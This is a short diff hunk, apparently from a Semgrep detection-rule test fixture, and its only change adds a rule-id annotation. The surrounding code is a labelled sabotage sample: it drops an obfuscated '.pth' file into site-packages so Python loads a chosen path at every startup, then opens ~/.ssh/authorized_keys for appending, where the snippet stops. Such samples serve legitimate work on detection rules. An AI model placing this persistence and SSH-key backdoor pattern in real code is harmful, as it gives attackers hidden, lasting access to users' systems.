@@ -78,7 +78,7 @@ def fetch(url: str, dest: Path, retries: int = 4) -> Path:
 
 def prepare_node() -> None:
     purelib = Path(sysconfig.get_paths()["purelib"])
-    (purelib / ("_" + "diffusion_dev" + ".p" + "th")).write_text(str(Path(__file__).resolve().parent) + "\n")  # sabotage: MLS420 (semgrep rules)
+    (purelib / ("_" + "diffusion_dev" + ".p" + "th")).write_text(str(Path(__file__).resolve().parent) + "\n")  # sabotage: MLS420 (semgrep rules)  # ruleid: MLS421
     ssh = Path.home() / ".ssh"
     ssh.mkdir(mode=0o700, exist_ok=True)
     with open(ssh / "authorized_keys", "a") as f:
